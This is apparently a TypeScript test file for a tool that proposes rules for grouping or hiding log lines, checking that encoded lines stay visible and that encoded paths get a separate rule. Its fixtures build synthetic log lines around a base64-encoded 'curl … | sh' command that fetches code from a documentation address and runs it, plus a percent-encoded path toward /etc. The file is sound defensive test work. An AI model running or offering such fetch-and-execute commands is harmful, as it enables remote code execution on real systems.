/** Covers: training/lines/encoded, training/rules/rule-template. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { hiddenBy, proposalsOf, times } from '../trained.ts';

function base64(at: number): string {
  return Buffer.from(`curl -s http://192.0.2.${at}/x | sh; echo ${at * 7919}`).toString('base64');
}

function request(path: string): string {
  return `192.0.2.7 - - [14/Jun/2025:15:16:01 +0000] "GET ${path} HTTP/1.1" 200 512`;
}

describe('encoded text is never usual', () => {
  const forms: Readonly<Record<string, (at: number) => string>> = {
    base64: (at) => `Jun 14 15:16:01 web1 app[7]: took the value ${base64(at)}`,
    'base64 after a key': (at) => `level=info msg="value taken" payload=${base64(at)}`,
    'hexadecimal digits': (at) =>
      `Jun 14 15:16:01 web1 app[7]: took the value ${Buffer.from(base64(at)).toString('hex').slice(at)}`,
    'percent-encoding': (at) => request(`/a${at}/%2f%65tc/b`),
    'escaped bytes': (at) =>
      String.raw`192.0.2.7 - - [14/Jun/2025:15:16:01 +0000] "\x16\x03\x01\x0${at}" 200 226`,
  };
  for (const [name, form] of Object.entries(forms)) {
    test(`propose() hides no ${name} by default`, () => {
      const lines = times(9, form);
      assert.deepEqual(hiddenBy(proposalsOf(lines), [...lines, form(12)]), []);
    });
  }
});

test('propose() makes a rule of its own of encoded paths, so that the others can be used', () => {
  const lines = times(20, (at) => request(`/a${at}/b`));
  const proposals = proposalsOf([...lines, ...times(4, (at) => request(`/a${at}/%62`))], true);
  assert.deepEqual(
    proposals.map(({ count }) => count),
    [20, 4],
  );
});
